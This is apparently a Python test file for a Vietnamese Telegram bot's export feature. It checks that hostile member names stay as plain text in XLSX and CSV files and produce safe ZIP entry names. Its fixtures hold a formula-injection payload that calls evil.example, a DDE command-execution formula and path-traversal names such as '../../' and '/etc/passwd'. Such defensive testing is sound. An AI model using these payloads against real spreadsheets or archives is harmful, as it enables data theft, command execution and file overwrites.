"""Exports written from hostile names: no live formula in a spreadsheet, no unsafe path in
a .zip."""

import asyncio
import io
import re
import zipfile

from openpyxl import load_workbook

from bot.cli import main
from bot.demo_reviews import sample_review
from conversations.core.text import FILE_NAME_LIMIT
from tests.conftest import COMMITTEE, record
from tests.csv_helpers import invite_rows
from tests.secretary_helpers import link

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1)', "+1", "-2+3", "@SUM(A1)",
            "=cmd|' /C calc'!A0"]
FORMULA_CELL = "=1+1"  # a cell name too
UNSAFE = ["../../Nguyễn Văn Xấu", 'Lê<>|:"?*\\Tên', "/etc/passwd", "CON", "..", "A" * 300]


async def _kiemdiem(*args: str) -> int:
    return await asyncio.to_thread(main, [*args])


def _cells(content: bytes):
    for sheet in load_workbook(io.BytesIO(content)):
        for row in sheet.iter_rows():
            yield from row


async def _hostile(repos, clock, forms, names: list[str], cell: str = "Chi bộ 1"):
    committee = await repos.org.ensure_committee(COMMITTEE)
    born = [f"19{60 + n}-01-01" for n in range(len(names))]
    await repos.org.apply_import(committee.id, [
        record(cell, name, day) for name, day in zip(names, born, strict=True)])
    members = [m for m in await repos.org.members_of_committee(committee.id)
               if m.full_name in names]
    for member in members:
        await sample_review(repos, forms, member, clock())
    return members


async def test_formula_names_stay_text_in_every_xlsx(repos, clock, forms, chat_factory, org,
                                                     tmp_path, db):
    await _hostile(repos, clock, forms, FORMULAS)
    await _hostile(repos, clock, forms, ["Phạm Văn Tư"], cell=FORMULA_CELL)
    secretary = chat_factory(await link(repos, clock, org["Trần Văn Đức"]), "telegram")
    [cell_xlsx, _zip] = [r.document for r in await secretary.say("/export")]
    out = tmp_path / "out"
    assert await _kiemdiem("--db", db.path, "export", "--out", str(out)) == 0
    committee_xlsx = next(out.glob("*.xlsx")).read_bytes()
    for content in (cell_xlsx.content, committee_xlsx):
        cells = list(_cells(content))
        assert not [c.coordinate for c in cells if c.data_type == "f"]
        shown = {c.value for c in cells}
        assert set(FORMULAS) <= shown  # as typed, not evaluated
    assert FORMULA_CELL in {c.value for c in _cells(committee_xlsx)}


async def test_invites_csv_defuses_formulas(repos, clock, forms, org, tmp_path, db):
    await _hostile(repos, clock, forms, FORMULAS, cell=FORMULA_CELL)
    out_file = tmp_path / "codes.csv"
    assert await _kiemdiem("--db", db.path, "invites", "--format", "csv",
                           "--out", str(out_file)) == 0
    rows = invite_rows(out_file.read_text(encoding="utf-8-sig"))
    names = {r["full_name"] for r in rows}
    assert {"'" + name for name in FORMULAS} <= names
    assert "Trần Văn Đức" in names  # ordinary names are untouched
    assert {r["cell"] for r in rows} == {"Chi bộ 1", "Chi bộ 2", "'" + FORMULA_CELL}
    assert not [v for r in rows for v in r.values() if re.match(r"[=+\-@\t\r]", v)]


def _check_entries(names: list[str], folders: bool) -> None:
    assert len({n.casefold() for n in names}) == len(names)  # unique, even on Windows
    for name in names:
        parts = name.split("/")
        assert len(parts) == (2 if folders else 1), name
        for part in parts:
            assert part and part not in (".", "..") and not part.startswith(".")
            assert not re.search(r'[<>:"\\|?*\x00-\x1f]', part), name
            assert len(part) <= FILE_NAME_LIMIT + len(".docx")


async def test_zip_entries_are_flat_safe_and_unique(repos, clock, forms, chat_factory, org,
                                                     tmp_path, db):
    # two people of one name (different birth dates) and every kind of unsafe name
    await _hostile(repos, clock, forms, [*UNSAFE, "Lê Văn Trùng"])
    committee = await repos.org.ensure_committee(COMMITTEE)
    await repos.org.apply_import(committee.id, [record("Chi bộ 1", "Lê Văn Trùng", "1999-09-09")])
    twin = next(m for m in await repos.org.members_of_cell(org["Trần Văn Đức"].cell_id)
                if m.birth_date.year == 1999)
    await sample_review(repos, forms, twin, clock())

    secretary = chat_factory(await link(repos, clock, org["Trần Văn Đức"]), "telegram")
    archive = (await secretary.say("/export"))[1].document
    with zipfile.ZipFile(io.BytesIO(archive.content)) as files:
        names = files.namelist()
        assert files.testzip() is None
    assert len(names) == len(UNSAFE) + 2
    _check_entries(names, folders=False)
    assert "ban-kiem-diem-2026-Nguyễn-Văn-Xấu.docx" in names  # Vietnamese letters kept
    assert {"ban-kiem-diem-2026-Lê-Văn-Trùng.docx",
            "ban-kiem-diem-2026-Lê-Văn-Trùng-2.docx"} <= set(names)

    out = tmp_path / "out"
    assert await _kiemdiem("--db", db.path, "export", "--out", str(out)) == 0
    with zipfile.ZipFile(next(out.glob("*.zip"))) as files:
        _check_entries(files.namelist(), folders=True)
        files.extractall(tmp_path / "unpacked")
    unpacked = [p for p in (tmp_path / "unpacked").rglob("*") if p.is_file()]
    assert len(unpacked) == len(UNSAFE) + 2
    assert all(p.is_relative_to(tmp_path / "unpacked") for p in unpacked)
